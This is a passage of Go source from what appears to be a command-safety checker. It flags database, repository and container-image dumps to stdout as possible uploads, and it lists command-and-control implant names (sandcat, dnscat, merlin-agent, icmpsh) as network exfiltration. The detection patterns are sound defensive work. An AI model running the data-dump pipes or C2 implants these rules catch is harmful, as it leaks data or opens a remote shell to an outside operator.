	src, dest := ops[len(ops)-2], ops[len(ops)-1]
	host, rp, remote := strings.Cut(src, ":")
	if !remote || strings.Contains(host, "/") || strings.Contains(dest, ":") && !strings.HasPrefix(dest, "/") {
		return nil
	}
	if dest == "." || strings.HasSuffix(dest, "/") {
		return []string{path.Join(dest, path.Base(rp))}
	}
	return []string{dest}
}

// dumpsData reports a command that prints stored data whole: a database
// dump (pg_dump, mysqldump, mongodump --archive, sqlite3 .dump), the
// repository's content (git bundle|archive to stdout, git diff, show,
// log -p, format-patch --stdout) or a container image (docker save,
// export). Piped to another host it is the same upload as the files it
// holds.
func dumpsData(cmd *shell.Command) bool {
	if cmd.Dynamic || cmd.Name == "" {
		return false
	}
	args := cmd.Args
	switch name := path.Base(cmd.Name); name {
	case "pg_dump", "pg_dumpall", "mysqldump", "mariadb-dump", "mongoexport":
		return !hasLit(args, "-f", "--file", "-r", "--result-file", "-o", "--out") && !helpOnly(args)
	case "mongodump":
		return slices.ContainsFunc(args, func(w shell.Word) bool { return w.Lit == "--archive" })
	case "sqlite3":
		return slices.ContainsFunc(args, func(w shell.Word) bool { return w.Lit == ".dump" })
	case "docker", "podman":
		v := verbs(args, 2)
		return len(v) > 0 && (v[0] == "save" || v[0] == "export" || len(v) > 1 && (v[0] == "image" && v[1] == "save" || v[0] == "container" && v[1] == "export")) &&
			!hasLit(args, "-o", "--output")
	case "git":
		_, sub, rest, ok := cmd.GitArgs()
		if !ok {
			return false
		}
		switch sub {
		case "bundle":
			return firstVerbIn(rest, "create") && hasLit(rest, "-")
		case "archive":
			return !hasLit(rest, "-o", "--output", "--list", "-l")
		case "diff", "show":
			return !hasLit(rest, "--stat", "--name-only", "--name-status", "--shortstat", "--numstat", "--quiet")
		case "log":
			return hasLit(rest, "-p", "--patch", "-u")
		case "format-patch":
			return hasLit(rest, "--stdout")
		}
	}
	return false
}

// c2Agents are the implants of command-and-control frameworks, by their
// documented binary names: CALDERA's sandcat (sandcat.go-linux, …),
// dnscat2's client (dnscat), Merlin's agent, icmpsh's slave.
var c2Agents = []string{"sandcat", "dnscat", "merlinagent", "merlin-agent", "icmpsh"}

// c2Agent flags a command-and-control implant started: it runs what its
// server sends (the README: "a C2 agent started ... is
// network-exfiltration (a shell served)").
func (c *checker) c2Agent(cmd *shell.Command, name string) {
	low := strings.ToLower(name)
	if helpOnly(cmd.Args) || strings.HasSuffix(low, ".rb") || strings.HasSuffix(low, ".py") && strings.Contains(low, "_m") {
		return // dnscat2.rb and icmpsh_m.py are the servers, on the operator's side
	}
	for _, a := range c2Agents {
		if strings.HasPrefix(low, a) {
			c.because(name)
			c.add(NetworkExfiltration)
			return
		}
	}
}
